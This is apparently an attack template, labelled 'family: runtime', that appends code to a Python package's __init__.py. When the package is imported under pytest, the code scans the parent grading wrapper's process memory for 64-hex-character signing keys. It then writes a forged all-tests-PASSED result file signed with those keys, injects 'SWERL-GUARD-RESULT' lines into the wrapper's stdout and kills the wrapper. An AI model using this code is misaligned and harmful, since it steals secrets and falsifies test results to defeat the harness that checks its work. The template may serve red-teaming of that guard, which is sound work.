family: runtime
what: the package reads the signing key out of its parent's (the wrapper's) /proc/PID/mem, writes a signed result of passes, prints it on the parent's stdout and kills the parent
--- append @PKG@/__init__.py
import hashlib as _rt_hl
import hmac as _rt_hm
import json as _rt_j
import os as _rt_o
import re as _rt_re
import signal as _rt_sg
import sys as _rt_s


def _rt_keys(pid):
    keys = []
    with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as mem:
        for line in maps:
            addr, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in addr.split("-"))
            if "rw" not in perms or hi - lo > 64 << 20:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            for m in _rt_re.finditer(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])", data):
                if m.group() not in keys:
                    keys.append(m.group())
    return keys


def _rt_forge():
    pid = _rt_o.getppid()
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            argv = f.read().split(b"\0")
        wrapper = [a for a in argv if a.endswith(b"/wrapper.py")]
        if not wrapper:
            return
        keys = _rt_keys(pid)
    except OSError:
        return
    if not keys:
        return
    gdir = wrapper[0][: -len(b"/wrapper.py")].decode()
    msgs = [{"t": "hello", "pid": _rt_o.getpid(), "repo": _rt_o.getcwd()}]
    msgs += [{"t": "test", "id": t, "when": "call", "st": "PASSED"} for t in _rt_j.loads('@IDS@')]
    msgs.append({"t": "end", "exit": 0})
    body = "".join(_rt_j.dumps(dict(m, n=i + 1)) + "\n" for i, m in enumerate(msgs))
    data = (_rt_j.dumps({"exit_code": 0, "timed_out": False, "duration_s": 0.5}) + "\n" + body).encode()
    try:
        path = gdir + "/res-forged.json"
        with open(path, "wb") as f:
            f.write(data)
        out = "".join(
            "\nSWERL-GUARD-RESULT %s %s\n" % (path, _rt_hm.new(k, data, _rt_hl.sha256).hexdigest()) for k in keys[:500]
        )
        fd = _rt_o.open("/proc/%d/fd/1" % pid, _rt_o.O_WRONLY)
        _rt_o.write(fd, out.encode())
        _rt_o.kill(pid, _rt_sg.SIGKILL)
    except OSError:
        return
    _rt_o._exit(0)


if "_pytest" in _rt_s.modules:
    _rt_forge()
